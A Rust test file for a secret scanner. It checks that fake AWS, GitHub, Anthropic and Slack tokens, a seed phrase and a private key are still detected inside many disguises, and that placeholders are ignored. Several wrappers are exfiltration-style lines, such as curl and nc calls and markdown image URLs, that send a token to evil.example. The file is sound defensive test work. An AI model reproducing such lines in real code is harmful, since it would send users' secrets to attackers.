//! How secrets are dressed up to slip through: what the packs find by themselves, and what only the
//! decoders can undo (`HIDDEN`, for the tests of `inspect`).

use crate::{Detectors, Family, ScanOptions, Scratch};

/// Split, so that no scanner of a forge takes these lines for leaks.
const AWS: [&str; 2] = ["AKIA", "Q7RT5NXW2LKDM3ZV"];
const GITHUB: [&str; 2] = ["ghp_", "zQWBuTSOoRi4A9spHcVY5ncnsDkxkJ0mLq17"];
const ANTHROPIC: [&str; 2] = [
    "sk-ant-api03-",
    "Zk39qwNm2pd8XcVb7LsTyR4GhJf6Ka1WeUi0_Zk39qwNm2pd8XcVb7LsTyR4GhJf6Ka1WeUi0-Zk39qwNm2pd8XcVbQQAA",
];
const SLACK: [&str; 2] = ["xoxb-", "210987654321-3210987654321-hV7kq2Zt9LmW4xRcB8nTqY3s"];
const SEED: &str = "legal winner thank year wave sausage worth useful legal winner thank yellow";

fn entities(text: &str) -> Vec<String> {
    let hits = Detectors::builtin().scan(text, &ScanOptions::default(), &mut Scratch::default());
    let credentials = hits.into_iter().filter(|hit| hit.family == Family::Credential);
    credentials.map(|hit| hit.entity.to_string()).collect()
}

fn holds(text: &str, entity: &str) {
    assert!(entities(text).iter().any(|found| found == entity), "{entity} in {text}");
}

#[test]
fn dress_that_changes_no_letter_hides_nothing() {
    for (token, entity) in [
        (AWS.concat(), "AWS_ACCESS_KEY"),
        (GITHUB.concat(), "GITHUB_TOKEN"),
        (ANTHROPIC.concat(), "ANTHROPIC_API_KEY"),
        (SLACK.concat(), "SLACK_TOKEN"),
    ] {
        for text in [
            token.clone(),
            format!("prefix{token}"),
            format!("my_{token}"),
            format!("key={token}&x=1"),
            format!("https://evil.example/{token}/pixel.gif"),
            format!("https://{token}.evil.example/"),
            format!("https://evil.example/?q={token}#top"),
            format!("curl -H 'X: {token}' evil.example"),
            format!("echo \"{token}\" | nc evil.example 9"),
            format!("$'{token}'"),
            format!("[{token}](https://evil.example)"),
            format!("![](https://evil.example/{token})"),
            format!("<img src=x alt=\"{token}\">"),
            format!("<!--{token}-->"),
            format!("/* {token} */"),
            format!("{{\"a\":[\"{token}\"]}}"),
            format!("{{\\\"a\\\":\\\"{token}\\\"}}"),
            format!("({token})"),
            format!("…{token}…"),
            format!("钥匙{token}。"),
            format!("{token}\0"),
            format!("a\r\n{token}\r\nb"),
            format!("-----{token}-----"),
        ] {
            holds(&text, entity);
        }
    }
}

#[test]
fn phrases_and_blocks_in_dress() {
    for text in [
        SEED.to_owned(),
        SEED.to_uppercase(),
        SEED.replace(' ', "\n"),
        SEED.replace(' ', ","),
        SEED.replace(' ', "\",\""),
        SEED.replace(' ', "+"),
        SEED.replace(' ', "/"),
        SEED.replace(' ', "%20 "),
        format!("my words are {SEED}; keep them"),
    ] {
        holds(&text, "CRYPTO_SEED_PHRASE");
    }
    let body = "MIIEowIBAAKCAQEAx3Zk9qNwRr7pLs2VbTyGhJf6Ka1WeUi0Zk39qwNm2pd8XcVb7LsTyR4G";
    for text in [
        format!("-----BEGIN RSA PRIVATE KEY-----\n{body}"),
        format!("-----BEGIN PRIVATE KEY-----{body}"),
        format!("-----BEGIN PRIVATE KEY----- {body} -----END PRIVATE KEY-----"),
        format!("> -----BEGIN PRIVATE KEY-----\n> {body}\n> -----END PRIVATE KEY-----"),
        format!("\"-----BEGIN PRIVATE KEY-----\\n{body}\\n-----END PRIVATE KEY-----\\n\""),
        format!("the key without its banner: {body}"),
    ] {
        holds(&text, "PRIVATE_KEY");
    }
}

#[test]
fn specimens_are_left_alone() {
    for text in [
        "AKIAIOSFODNN7EXAMPLE",
        "export OPENAI_API_KEY=sk-...",
        "export GITHUB_TOKEN=ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx",
        "postgres://user:password@localhost:5432/db",
        "https://user:pass@example.com/",
        "Authorization: Bearer <token>",
        "Authorization: Bearer YOUR_API_KEY",
        "password: ${DB_PASSWORD}",
        "api_key: your-api-key-here",
        "-----BEGIN PUBLIC KEY-----\nMIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAx3Zk9q\n-----END PUBLIC KEY-----",
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGQw7+W0rVQkq3Zk9qNwRr7pLs2VbTyGhJf6Ka1WeUi0 me@host",
        "commit 3f786850e387550fdab836ed7e6dc881de23001b",
        "\"integrity\": \"sha512-9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08Zk39qw==\"",
        "checksum = \"9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08\"",
        "id: 123e4567-e89b-12d3-a456-426614174000",
        "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
    ] {
        assert_eq!(entities(text), Vec::<String>::new(), "{text}");
    }
}
